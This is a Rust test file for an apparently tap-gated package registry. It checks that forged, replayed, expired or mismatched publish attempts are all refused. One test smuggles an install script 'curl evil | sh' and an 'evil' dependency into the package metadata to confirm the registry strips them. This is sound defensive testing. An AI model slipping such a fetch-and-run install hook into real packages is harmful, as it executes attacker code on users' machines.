//! Attempts to get an unapproved version published. Each is refused and nothing is published.

use reqwest::StatusCode;
use serde_json::json;
use tapgate_shared::intent::sri_sha512;

use crate::publish_support::*;
use crate::state_support::refused;
use crate::support::{Backend, TestApp, backend_tests, expect_error};

backend_tests!(
    tickets_bind_to_the_exact_upload,
    approvals_refuse_foreign_replayed_and_late_taps,
    concurrent_publishes_of_one_version_have_one_winner
);

async fn assert_unpublished(app: &TestApp, name: &str, version: &str) {
    let status =
        app.http.get(app.url(&format!("/{}/{version}", encode(name)))).send().await.unwrap().status();
    assert_eq!(status, StatusCode::NOT_FOUND, "{name}@{version} must not be published");
}

async fn tickets_bind_to_the_exact_upload(backend: Backend) {
    let Some(app) = TestApp::new(backend).await else {
        return;
    };
    let alice = maintainer(&app, "alice").await;
    let a = tarball("pkg", "1.0.0", "the reviewed code");
    let b = tarball("pkg", "1.0.0", "a backdoor");
    let info = create_approval(&app, &alice, "pkg", "1.0.0", &sri_sha512(&a)).await;
    let ticket = approve(&app, &info, &alice.key).await;

    // Same version, other bytes.
    let msg = refused!(
        &app,
        put(&app, &alice.token, "pkg", &publish_body("pkg", "1.0.0", &b), Some(&ticket.ticket)).await,
        StatusCode::FORBIDDEN,
        "invalid_ticket"
    );
    assert!(msg.contains("integrity"), "{msg}");
    // Other version.
    let c = tarball("pkg", "1.0.1", "x");
    refused!(
        &app,
        put(&app, &alice.token, "pkg", &publish_body("pkg", "1.0.1", &c), Some(&ticket.ticket)).await,
        StatusCode::FORBIDDEN,
        "invalid_ticket"
    );
    // The approved bytes under a manifest that lies about them.
    let mut lying = publish_body("pkg", "1.0.0", &b);
    lying["versions"]["1.0.0"]["dist"]["integrity"] = json!(sri_sha512(&a));
    refused!(
        &app,
        put(&app, &alice.token, "pkg", &lying, Some(&ticket.ticket)).await,
        StatusCode::BAD_REQUEST,
        "integrity_mismatch"
    );
    // Another user's token with alice's ticket.
    let bob = maintainer(&app, "bob").await;
    refused!(
        &app,
        put(&app, &bob.token, "pkg", &publish_body("pkg", "1.0.0", &a), Some(&ticket.ticket)).await,
        StatusCode::FORBIDDEN,
        "invalid_ticket"
    );
    // A made-up ticket and a guessed code.
    refused!(
        &app,
        put(&app, &alice.token, "pkg", &publish_body("pkg", "1.0.0", &a), Some("tg_tkt_forged")).await,
        StatusCode::FORBIDDEN,
        "invalid_ticket"
    );
    refused!(
        &app,
        put(&app, &alice.token, "pkg", &publish_body("pkg", "1.0.0", &b), Some(&ticket.code)).await,
        StatusCode::FORBIDDEN,
        "invalid_ticket"
    );
    assert_unpublished(&app, "pkg", "1.0.0").await;

    // Expired ticket.
    app.clock.advance(301);
    let msg = refused!(
        &app,
        put(&app, &alice.token, "pkg", &publish_body("pkg", "1.0.0", &a), Some(&ticket.ticket)).await,
        StatusCode::FORBIDDEN,
        "invalid_ticket"
    );
    assert!(msg.contains("expired"), "{msg}");
    assert_unpublished(&app, "pkg", "1.0.0").await;

    // The genuine upload with a fresh approval works once; the ticket then is spent.
    let info = create_approval(&app, &alice, "pkg", "1.0.0", &sri_sha512(&a)).await;
    let ticket = approve(&app, &info, &alice.key).await;
    // The approved bytes, with metadata that smuggles in a dependency and an install script: the
    // registry serves the tarball's own package.json, which the tap covered.
    let mut smuggling = publish_body("pkg", "1.0.0", &a);
    smuggling["versions"]["1.0.0"]["dependencies"] = json!({"evil": "*"});
    smuggling["versions"]["1.0.0"]["scripts"] = json!({"install": "curl evil | sh"});
    let resp = put(&app, &alice.token, "pkg", &smuggling, Some(&ticket.ticket)).await;
    assert_eq!(resp.status(), StatusCode::CREATED);
    let served: serde_json::Value = app.get_json("/pkg/1.0.0").await;
    assert!(served.get("dependencies").is_none() && served.get("scripts").is_none(), "{served}");
    assert_eq!(served["description"], "the reviewed code");
    refused!(
        &app,
        put(&app, &alice.token, "pkg", &publish_body("pkg", "1.0.1", &c), Some(&ticket.ticket)).await,
        StatusCode::FORBIDDEN,
        "invalid_ticket"
    );
    assert_unpublished(&app, "pkg", "1.0.1").await;

    // Malformed documents.
    let good = publish_body("pkg", "1.0.2", &tarball("pkg", "1.0.2", "y"));
    let cases: Vec<(serde_json::Value, StatusCode, &str)> = vec![
        (json!([1, 2]), StatusCode::BAD_REQUEST, "bad_request"),
        (json!({"name": "pkg"}), StatusCode::BAD_REQUEST, "bad_request"),
        (
            {
                let mut v = good.clone();
                v["_attachments"]["pkg-1.0.2.tgz"]["data"] = json!("!!not base64!!");
                v
            },
            StatusCode::BAD_REQUEST,
            "bad_request",
        ),
        (
            {
                let mut v = good.clone();
                v["_attachments"]["pkg-1.0.2.tgz"]["length"] = json!(3);
                v
            },
            StatusCode::BAD_REQUEST,
            "integrity_mismatch",
        ),
        (
            {
                let mut v = good.clone();
                v["versions"]["1.0.2"]["dist"]["shasum"] = json!("00");
                v
            },
            StatusCode::BAD_REQUEST,
            "integrity_mismatch",
        ),
        (
            {
                let mut v = good.clone();
                v["name"] = json!("other");
                v
            },
            StatusCode::BAD_REQUEST,
            "bad_request",
        ),
        (
            {
                let mut v = good.clone();
                v["versions"]["1.0.2"]["version"] = json!("1.0.3");
                v
            },
            StatusCode::BAD_REQUEST,
            "bad_request",
        ),
        (
            publish_body("pkg", "1.0.2", &tarball("evil", "1.0.2", "z")),
            StatusCode::BAD_REQUEST,
            "integrity_mismatch",
        ),
        (publish_body("pkg", "1.0.2", b"not a tarball"), StatusCode::BAD_REQUEST, "bad_request"),
    ];
    for (body, status, code) in cases {
        refused!(&app, put(&app, &alice.token, "pkg", &body, None).await, status, code);
    }
    refused!(
        &app,
        app.http
            .put(app.url("/pkg"))
            .bearer_auth(&alice.token)
            .header("content-type", "application/json")
            .body("{oops")
            .send()
            .await
            .unwrap(),
        StatusCode::BAD_REQUEST,
        "invalid_json"
    );
    refused!(
        &app,
        put(&app, &alice.token, "Bad Name", &good, None).await,
        StatusCode::BAD_REQUEST,
        "invalid_name"
    );
    let big = vec![7u8; 2 * 1024 * 1024];
    refused!(
        &app,
        put(&app, &alice.token, "pkg", &publish_body("pkg", "1.0.2", &big), None).await,
        StatusCode::PAYLOAD_TOO_LARGE,
        "payload_too_large"
    );
    assert_unpublished(&app, "pkg", "1.0.2").await;
}

async fn approvals_refuse_foreign_replayed_and_late_taps(backend: Backend) {
    let Some(app) = TestApp::new(backend).await else {
        return;
    };
    let alice = maintainer(&app, "alice").await;
    let bob = maintainer(&app, "bob").await;
    let v1 = tarball("pkg", "1.0.0", "1");
    assert_eq!(publish_with_key(&app, &alice, "pkg", "1.0.0", &v1).await.status(), StatusCode::CREATED);

    // bob is not a maintainer: he can neither request nor publish.
    let v2 = tarball("pkg", "2.0.0", "2");
    refused!(
        &app,
        app.http
            .post(app.url("/api/v1/approvals"))
            .bearer_auth(&bob.token)
            .json(&json!({"package": "pkg", "version": "2.0.0", "integrity": sri_sha512(&v2)}))
            .send()
            .await
            .unwrap(),
        StatusCode::FORBIDDEN,
        "forbidden"
    );
    refused!(
        &app,
        put(&app, &bob.token, "pkg", &publish_body("pkg", "2.0.0", &v2), None).await,
        StatusCode::FORBIDDEN,
        "forbidden"
    );

    // bob's key answering alice's intent.
    let info = create_approval(&app, &alice, "pkg", "2.0.0", &sri_sha512(&v2)).await;
    let bob_user = app.store().user_by_name("bob").await.unwrap().unwrap();
    let bob_cred = app.store().keys_of_user(&bob_user.id).await.unwrap()[0].credential_id.clone();
    let mut options = info.public_key.clone().unwrap();
    options.allow_credentials[0].id = bob_cred;
    let cred = tapgate::ceremony::assert(&bob.key.choice, &options, &app.origin).await.unwrap();
    refused!(&app, finish_approval(&app, &info.id, &cred).await, StatusCode::UNAUTHORIZED, "webauthn_failed");
    // Answers from keys the approval does not allow never void it: holding its URL is not
    // enough to cancel a maintainer's change.
    for _ in 0..6 {
        refused!(
            &app,
            finish_approval(&app, &info.id, &cred).await,
            StatusCode::UNAUTHORIZED,
            "webauthn_failed"
        );
    }
    let still: serde_json::Value = app.get_json(&format!("/api/v1/approvals/{}", info.id)).await;
    assert_eq!(still["status"], "pending");

    // alice's assertion for one approval replayed on another.
    let other = create_approval(&app, &alice, "pkg", "2.0.0", &sri_sha512(&v2)).await;
    let cred = tapgate::ceremony::assert(&alice.key.choice, other.public_key.as_ref().unwrap(), &app.origin)
        .await
        .unwrap();
    let msg = refused!(
        &app,
        finish_approval(&app, &info.id, &cred).await,
        StatusCode::UNAUTHORIZED,
        "webauthn_failed"
    );
    assert!(msg.contains("different challenge"), "{msg}");
    // …and the genuine finish of `other` works once, then replays are refused.
    assert_eq!(finish_approval(&app, &other.id, &cred).await.status(), StatusCode::OK);
    refused!(&app, finish_approval(&app, &other.id, &cred).await, StatusCode::CONFLICT, "conflict");
    let events = app.store().recent_events(10).await.unwrap();
    assert_eq!(
        events.iter().filter(|e| e.kind == "approval_failed").count(),
        1,
        "the replay, from an allowed key: {events:?}"
    );

    // An expired intent (10 minutes).
    let late = create_approval(&app, &alice, "pkg", "2.0.1", &sri_sha512(b"whatever")).await;
    let cred = tapgate::ceremony::assert(&alice.key.choice, late.public_key.as_ref().unwrap(), &app.origin)
        .await
        .unwrap();
    app.clock.advance(601);
    refused!(&app, finish_approval(&app, &late.id, &cred).await, StatusCode::GONE, "approval_expired");

    // Five failed taps void an approval.
    let voided = create_approval(&app, &alice, "pkg", "2.0.2", &sri_sha512(b"z")).await;
    for _ in 0..5 {
        // These failures lock the package (a change the lockout tests check).
        expect_error(
            finish_approval(&app, &voided.id, &cred).await,
            StatusCode::UNAUTHORIZED,
            "webauthn_failed",
        )
        .await;
    }
    let good = tapgate::ceremony::assert(&alice.key.choice, voided.public_key.as_ref().unwrap(), &app.origin)
        .await
        .unwrap();
    refused!(&app, finish_approval(&app, &voided.id, &good).await, StatusCode::GONE, "approval_expired");
    assert_unpublished(&app, "pkg", "2.0.0").await;
}

async fn concurrent_publishes_of_one_version_have_one_winner(backend: Backend) {
    let Some(app) = TestApp::new(backend).await else {
        return;
    };
    let alice = maintainer(&app, "alice").await;
    let a = tarball("race", "1.0.0", "a");
    let b = tarball("race", "1.0.0", "b");
    let ta =
        approve(&app, &create_approval(&app, &alice, "race", "1.0.0", &sri_sha512(&a)).await, &alice.key)
            .await;
    let tb =
        approve(&app, &create_approval(&app, &alice, "race", "1.0.0", &sri_sha512(&b)).await, &alice.key)
            .await;
    let body_a = publish_body("race", "1.0.0", &a);
    let body_b = publish_body("race", "1.0.0", &b);
    let (ra, rb) = tokio::join!(
        put(&app, &alice.token, "race", &body_a, Some(&ta.ticket)),
        put(&app, &alice.token, "race", &body_b, Some(&tb.ticket)),
    );
    let statuses = [ra.status(), rb.status()];
    assert_eq!(statuses.iter().filter(|s| **s == StatusCode::CREATED).count(), 1, "{statuses:?}");
    assert!(statuses.contains(&StatusCode::FORBIDDEN), "{statuses:?}");
    let winner = if ra.status() == StatusCode::CREATED { &a } else { &b };
    let doc: serde_json::Value = app.get_json("/race").await;
    assert_eq!(doc["versions"]["1.0.0"]["dist"]["integrity"], sri_sha512(winner));
    let bytes = app.http.get(app.url("/race/-/race-1.0.0.tgz")).send().await.unwrap().bytes().await.unwrap();
    assert_eq!(bytes.as_ref(), winner.as_slice());
}

#[tokio::test]
async fn policy_none_publishes_with_a_token_and_admins_set_policies() {
    let app = TestApp::new(Backend::Sqlite).await.unwrap();
    let root = crate::gate_support::admin(&app, "root").await;
    let alice = maintainer(&app, "alice").await;
    refused!(
        &app,
        app.http
            .put(app.url("/api/v1/packages/open-pkg/policy"))
            .bearer_auth(&alice.token)
            .json(&json!({"second_factor": "none"}))
            .send()
            .await
            .unwrap(),
        StatusCode::FORBIDDEN,
        "forbidden"
    );
    // The administrator's token identifies; the administrator's own tap approves.
    let body = json!({"second_factor": "none"});
    let (info, resp) = crate::gate_support::with_tap(
        &app,
        reqwest::Method::PUT,
        "/api/v1/packages/open-pkg/policy",
        &root.token,
        Some(&body),
        &root.key,
    )
    .await;
    assert_eq!(info.action, "policy-set");
    assert!(info.description.contains(r#"to {"second_factor":"none"}"#), "{}", info.description);
    assert_eq!(resp.status(), StatusCode::OK);
    refused!(
        &app,
        app.http
            .put(app.url("/api/v1/packages/open-pkg/policy"))
            .bearer_auth(&root.token)
            .json(&json!({"second_factor": "sms"}))
            .send()
            .await
            .unwrap(),
        StatusCode::UNPROCESSABLE_ENTITY,
        "invalid_json"
    );
    // The name is reserved now: nobody claims it by publishing first.
    let tgz = tarball("open-pkg", "1.0.0", "o");
    let msg = refused!(
        &app,
        put(&app, &alice.token, "open-pkg", &publish_body("open-pkg", "1.0.0", &tgz), None).await,
        StatusCode::FORBIDDEN,
        "forbidden"
    );
    assert!(msg.contains("reserved"), "{msg}");
    // The administrator gives it to alice (with a tap); under policy none her token publishes.
    let (_, resp) = crate::gate_support::with_tap(
        &app,
        reqwest::Method::PUT,
        "/api/v1/packages/open-pkg/maintainers/alice",
        &root.token,
        None,
        &root.key,
    )
    .await;
    assert_eq!(resp.status(), StatusCode::OK);
    let resp = put(&app, &alice.token, "open-pkg", &publish_body("open-pkg", "1.0.0", &tgz), None).await;
    assert_eq!(resp.status(), StatusCode::CREATED);
    let info: serde_json::Value = app.get_json("/api/v1/packages/open-pkg").await;
    assert_eq!(info["policy"]["second_factor"], "none");
    assert_eq!(info["maintainers"], json!(["alice"]));
    let resp =
        app.http.get(app.url("/api/v1/packages/open-pkg/versions/1.0.0/approval")).send().await.unwrap();
    expect_error(resp, StatusCode::NOT_FOUND, "not_found").await;
    // A read-only token cannot publish at all.
    let reader = app
        .token(
            &app.store().user_by_name("alice").await.unwrap().unwrap(),
            &[tapgate_shared::api::Scope::Read],
        )
        .await;
    refused!(
        &app,
        put(
            &app,
            &reader,
            "open-pkg",
            &publish_body("open-pkg", "1.0.1", &tarball("open-pkg", "1.0.1", "r")),
            None,
        )
        .await,
        StatusCode::FORBIDDEN,
        "forbidden"
    );
}
